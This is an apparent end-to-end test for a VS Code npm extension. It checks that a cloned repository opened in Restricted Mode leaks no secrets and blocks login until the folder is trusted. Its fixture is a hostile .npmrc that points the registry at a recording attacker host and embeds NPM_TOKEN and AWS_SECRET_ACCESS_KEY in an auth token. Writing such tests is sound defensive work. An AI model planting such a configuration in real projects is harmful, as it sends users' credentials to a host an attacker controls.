// A cloned repository opened as a person opens it, with workspace trust on: VS Code shows Restricted
// Mode, the status works from the user's own config and says so, nothing of the user's reaches the
// host the repository chose, Log In asks for trust first — and trusting the folder applies the rest.
import * as assert from 'node:assert/strict';
import { startRecordingHost, type RecordingHost } from '../support/recordingHost';
import { openFile, runCommand, waitForStatusLabel, waitForStatusTooltip, workbenchSuite } from './workbench';

const planted = { NPM_TOKEN: 'planted-e2e-token-7c3f', AWS_SECRET_ACCESS_KEY: 'planted-e2e-aws-9b1d' };

describe('a cloned repository in Restricted Mode (workspace trust on)', function () {
  let attacker: RecordingHost;
  // Runs before the suite's own `before` below: the repository's .npmrc names this host.
  before(async () => (attacker = await startRecordingHost()));
  after(() => attacker?.close());

  const suite = workbenchSuite(() => ({
    'cloned/package.json': JSON.stringify({ name: 'demo-pkg', version: '8.0.0' }, null, 2),
    'cloned/.npmrc': `registry=${attacker.url}\n${attacker.url.replace(/^http:/, '')}:_authToken=\${NPM_TOKEN}.\${AWS_SECRET_ACCESS_KEY}\nuserconfig=~/.bashrc\n`,
  }), { workspaceTrust: true, env: planted });

  const nothingPlanted = () => Object.values(planted).every((value) => !attacker.seen().includes(value))
    && attacker.requests.every((r) => r.headers.authorization === undefined);

  it('opens without a click: the status says the settings are partly applied; no secret reaches the repository\'s host', async () => {
    const p = suite.workbench.page;
    await p.locator('#workbench\\.parts\\.statusbar').filter({ hasText: 'Restricted Mode' }).waitFor({ timeout: 60_000 });
    await openFile(p, 'cloned/package.json');
    await waitForStatusLabel(p, /^npm publish status for demo-pkg@8\.0\.0\. .*Restricted Mode: this folder's npm settings are only partly applied\./);
    await waitForStatusTooltip(p, /Restricted Mode: this folder's npm settings are only partly applied\. Trust Folder…/);
    assert.ok(attacker.requests.length > 0, 'the package was looked up where the folder says');
    assert.ok(nothingPlanted(), JSON.stringify(attacker.requests));
  });

  it('Log In asks for trust first and sends nothing; trusting the folder (VS Code\'s trust editor) checks it as npm would', async () => {
    const p = suite.workbench.page;
    const before = attacker.requests.length;
    await runCommand(p, 'npm: Log In to Registry');
    const dialog = p.locator('.monaco-dialog-box').filter({ hasText: 'Log In is disabled in Restricted Mode' });
    await dialog.waitFor({ timeout: 30_000 });
    assert.equal(attacker.requests.length, before, 'nothing ran before the answer');
    await dialog.locator('.dialog-buttons .monaco-button', { hasText: /^Manage Workspace Trust$/ }).click();
    const editor = p.locator('.workspace-trust-editor');
    await editor.waitFor({ timeout: 30_000 });
    assert.ok(attacker.requests.slice(before).every((r) => r.method === 'GET'), 'no login was started');
    assert.ok(nothingPlanted());
    // The person's answer: trust. The status is checked again at once, now as npm reads the folder.
    await editor.locator('.workspace-trust-buttons-row .monaco-button', { hasText: /^Trust$/ }).first().click();
    await p.locator('#workbench\\.parts\\.statusbar').filter({ hasText: 'Restricted Mode' }).waitFor({ state: 'hidden', timeout: 30_000 });
    await openFile(p, 'cloned/package.json');
    await waitForStatusLabel(p, /^npm publish status for demo-pkg@8\.0\.0\. (?!.*Restricted Mode)/);
    // Trusted, the folder's own credential applies (the person chose so): the control that the checks above can fail.
    assert.ok(attacker.requests.some((r) => r.headers.authorization === `Bearer ${planted.NPM_TOKEN}.${planted.AWS_SECRET_ACCESS_KEY}`));
  });
});
